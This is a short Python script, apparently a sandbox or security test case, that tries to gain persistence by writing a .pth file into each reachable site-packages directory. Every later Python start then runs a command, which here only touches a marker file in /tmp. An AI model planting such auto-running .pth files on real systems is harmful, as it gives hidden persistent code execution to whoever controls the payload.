# Attempts: persistence: drop a .pth file into the virtualenv's site-packages so every later Python runs our code.
import json
import site
import sys

cfg = json.load(sys.stdin)
targets = {cfg["site_packages"], *site.getsitepackages()}
for directory in sorted(targets):
    with open(f"{directory}/pwned_by_pth.pth", "w") as handle:
        handle.write("import os; os.system('touch /tmp/pth-ran')\n")
